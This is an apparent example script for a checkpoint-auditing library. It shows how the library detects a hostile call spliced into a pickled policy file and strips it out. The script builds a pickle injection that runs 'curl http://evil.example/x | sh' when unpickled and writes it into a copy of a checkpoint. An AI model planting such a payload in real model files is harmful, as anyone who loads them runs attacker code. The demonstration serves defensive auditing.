"""See what a hostile checkpoint would run elsewhere, and take its weights without that.

    python examples/10_audit_a_hostile_file.py [FOLDER] [--svg FILE]

An honest checkpoint gets a call spliced in front of its policy's pickle, as attackers do it: any
unpickler that opens the copy would run it, rlconnect names it and reads the rest.
"""

import argparse
import shutil
import tempfile
import warnings
from dataclasses import replace
from pathlib import Path

import rlconnect
from rich.console import Console
from rlconnect.cli.audit_page import audit_page
from rlconnect.cli.theme import THEME
from rlconnect.core.vault.convert import convert

HERE = Path(__file__).parent
CALL = b"cos\nsystem\n(S'curl http://evil.example/x | sh'\ntR0"

parser = argparse.ArgumentParser(description=__doc__)
parser.add_argument("folder", nargs="?", help="where to write the hostile copy")
parser.add_argument("--svg", help="write the page as a picture")
arguments = parser.parse_args()
folder = Path(arguments.folder or tempfile.mkdtemp())

# An honest checkpoint of Ray's, and a copy with a call in it.
honest = min(HERE.glob("checkpoints/**/policy_state.pkl")).parents[2]
hostile = folder / "stranger"
shutil.copytree(honest, hostile)
file = min(hostile.rglob("policy_state.pkl"))
data = file.read_bytes()
file.write_bytes(data[:2] + CALL + data[2:])

# What an ordinary unpickler would call; nothing of it is called here.
audit = rlconnect.audit(hostile)
console = Console(theme=THEME, record=True, width=100, highlight=False)
console.print(audit_page(replace(audit, path="stranger")))
if arguments.svg:
    console.save_svg(arguments.svg, title="rlconnect inspect --audit stranger")
print("runs programs:", *(f"{call.name}({call.arguments})" for call in audit.unsafe))

# It loads, with a warning; and a converted copy is clean.
with warnings.catch_warnings(record=True) as told:
    warnings.simplefilter("always")
    rlconnect.load(hostile)
print("loaded, warned:", told[0].category.__name__)
written = convert(hostile, folder / "clean")
print("converted, left out:", ", ".join(problem.what for problem in written.not_kept[-1:]))
print("the copy would call:", rlconnect.audit(folder / "clean").calls or "nothing")
